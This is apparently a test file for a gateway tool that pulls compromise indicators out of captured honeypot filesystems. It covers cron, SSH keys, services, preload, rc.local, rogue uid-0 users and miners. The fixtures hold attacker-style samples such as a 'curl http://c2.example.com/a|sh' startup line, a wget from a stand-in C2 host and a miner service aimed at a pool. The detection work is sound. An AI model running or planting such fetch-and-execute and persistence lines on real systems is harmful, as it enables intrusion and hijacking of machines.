import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { test } from "node:test";
import { captureIndicators } from "../../../gateway/evidence/indicators/capture-indicators.ts";
import type { Capture, Change } from "../../../gateway/model/capture.ts";
import { SANDBOX } from "../conversation.ts";

const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJXU4Wq0oSYuR3BT4qRAmBrRBP7JmhEnjyhA7pEhUXJc";

/** What each path tells, given what lies there. */
async function told(
  files: Readonly<Record<string, string | Partial<Change>>>,
): Promise<Record<string, string[]>> {
  const artifacts = new Map<string, Buffer>();
  const changes = Object.entries(files).map(([path, given]): Change => {
    if (typeof given !== "string") return { kind: "A", path, type: "file", ...given };
    const content = Buffer.from(given, "latin1");
    const sha256 = createHash("sha256").update(content).digest("hex");
    artifacts.set(sha256, content);
    return { kind: "A", path, type: "file", mode: 0o644, size: content.length, sha256 };
  });
  const capture: Capture = {
    ...{
      sandbox: SANDBOX,
      sessions: [],
      source: "192.0.2.7",
      takenAt: "2026-11-23T03:00:00.000Z",
      cut: false,
    },
    changes,
  };
  const found = await captureIndicators(capture, (sha256, most) =>
    Promise.resolve(artifacts.get(sha256)?.subarray(0, most)),
  );
  return Object.fromEntries(
    Array.from(found, ([place, all]) => [
      changes[place]?.path ?? "",
      all.map(({ kind, value }) => (kind === "hash" ? "hash" : `${kind} ${value}`)),
    ]),
  );
}

test("files tell by where they lie and by what is in them", async () => {
  const systemDay = "daemon:*:20000:0:99999:7:::\n";
  assert.deepEqual(
    await told({
      "/var/spool/cron/crontabs/root": "# comment\nPATH=/bin\n*/5 * * * * /tmp/x\n",
      "/etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n1 2 3 4 5 root /tmp/y\n",
      "/etc/cron.d/kept-nothing": { leftOut: "too-large" },
      "/root/.ssh/authorized_keys": `# mine\n${KEY} mdrfckr\n`,
      "/root/.ssh/known_hosts": `c2.example.com ${KEY}\n`,
      "/etc/systemd/system/e.service": "[Service]\nExecStart=/tmp/e -o pool.example.com:3333\n",
      "/etc/systemd/system/multi-user.target.wants/e.service": {
        type: "link",
        linkTarget: "/etc/systemd/system/e.service",
      },
      "/etc/ld.so.preload": "/usr/lib/libx.so\n",
      "/etc/rc.local": "#!/bin/sh\ncurl http://c2.example.com/a|sh\n",
      "/etc/passwd":
        "root:x:0:0:root:/root:/bin/bash\nsys2:x:0:0::/:/bin/sh\nbob:x:1000:1000:,,,:/home/bob:/bin/bash\n",
      "/etc/shadow": `root:$6$a$b:20010:0:99999:7:::\n${systemDay}`,
      "/tmp/m":
        "\x7fELF\0\0http://evil.example.org/gate\0http://www.w3.org/x\0version 1.2.3.4\x00203.0.113.44:23\0stratum+tcp://p.example.net:33\0",
      "/tmp/readme.txt": "see http://c2.example.com/b or main.rs and 203.0.113.9.",
      "/root/.bash_history": "wget http://203.0.113.7/own-history\n",
      "/var/log/auth.log": "from 203.0.113.7 port 4\n",
      "/lib/modules/x/rk.ko": "\x7fELF\0",
      "/etc/gone": { kind: "D", type: "gone" },
    }),
    {
      "/var/spool/cron/crontabs/root": ["cron */5 * * * * /tmp/x"],
      "/etc/crontab": ["cron 1 2 3 4 5 root /tmp/y"],
      "/etc/cron.d/kept-nothing": ["cron /etc/cron.d/kept-nothing"],
      "/root/.ssh/authorized_keys": ["ssh-key SHA256:aawnHCmR5mkFPW+z71XxNocx8k4lHnZsxLgbuS0FCDU"],
      "/etc/systemd/system/e.service": ["service e.service", "domain pool.example.com"],
      "/etc/systemd/system/multi-user.target.wants/e.service": ["service e.service"],
      "/etc/ld.so.preload": ["preload /usr/lib/libx.so"],
      "/etc/rc.local": [
        "hash",
        "startup /etc/rc.local",
        "url http://c2.example.com/a",
        "domain c2.example.com",
      ],
      "/etc/passwd": ["user-made sys2"],
      "/etc/shadow": ["password-changed root"],
      "/tmp/m": [
        ...["hash", "url http://evil.example.org/gate", "domain evil.example.org", "address 203.0.113.44"],
        ...["pool p.example.net:33", "domain p.example.net"],
      ],
      "/tmp/readme.txt": ["url http://c2.example.com/b", "domain c2.example.com", "address 203.0.113.9"],
      "/lib/modules/x/rk.ko": ["hash", "kernel-module rk.ko"],
    },
  );
});

test("below /run, what the system writes of logins is passed over, and what bots put there is not", async () => {
  const seen = "from 203.0.113.7 port 4\n";
  assert.deepEqual(
    await told({
      "/run/utmp": seen,
      "/run/motd.dynamic": seen,
      "/run/systemd/sessions/12": "REMOTE_HOST=203.0.113.7\n",
      "/run/sudo/ts/eve": seen,
      "/run/log/journal/0123456789abcdef0123456789abcdef/system.journal": seen,
      // A copy of a program of the system's, as bots put it there.
      "/run/.x/bot": "\x7fELF\0Report any translation bugs to <https://translationproject.org/team/>\0",
      "/var/run/go": "#!/bin/sh\nwget http://c2.example.com/a\n",
      "/run/lock/hosts": seen,
      "/run/systemd/sessions/bot": seen,
      "/run/utmp/bot": seen,
    }),
    {
      "/run/.x/bot": ["hash"],
      "/var/run/go": ["hash", "url http://c2.example.com/a", "domain c2.example.com"],
      "/run/lock/hosts": ["address 203.0.113.7"],
      "/run/systemd/sessions/bot": ["address 203.0.113.7"],
      "/run/utmp/bot": ["address 203.0.113.7"],
    },
  );
});

test("whom they would connect to planted no key, nor did the copy that ssh keeps of that", async () => {
  const line = `c2.example.com ${KEY}\n`;
  assert.deepEqual(await told({ "/root/.ssh/known_hosts.old": line, "/root/.ssh/known_hosts": line }), {});
});

test("what every new home begins with is nobody's way to stay", async () => {
  assert.deepEqual(
    await told({
      "/home/eve/.bashrc": { sha256: "ab".repeat(32), skeleton: true },
      "/home/eve/.profile": { sha256: "cd".repeat(32) },
    }),
    { "/home/eve/.profile": ["startup /home/eve/.profile"] },
  );
});

test("files of packages that were installed are not theirs", async () => {
  assert.deepEqual(
    await told({
      "/var/lib/dpkg/info/tool.list":
        "/.\n/usr/bin/tool\n/etc/init.d/tool\n/lib/systemd/system/tool.service\n",
      "/usr/bin/tool": "\x7fELF\0http://tool.example.com/\0",
      "/etc/init.d/tool": "#!/bin/sh\n",
      "/usr/lib/systemd/system/tool.service": "[Service]\nExecStart=/usr/bin/tool\n",
      "/etc/systemd/system/multi-user.target.wants/tool.service": {
        type: "link",
        linkTarget: "/lib/systemd/system/tool.service",
      },
      "/etc/init.d/theirs": "x\n",
    }),
    { "/etc/init.d/theirs": ["startup /etc/init.d/theirs"] },
  );
});

test("an account's password as old as the system was not changed", async () => {
  const shadow = "root:$6$a$b:20000:0:99999:7:::\ndaemon:*:20000:0:99999:7:::\n";
  assert.deepEqual(await told({ "/etc/shadow": shadow }), {});
});
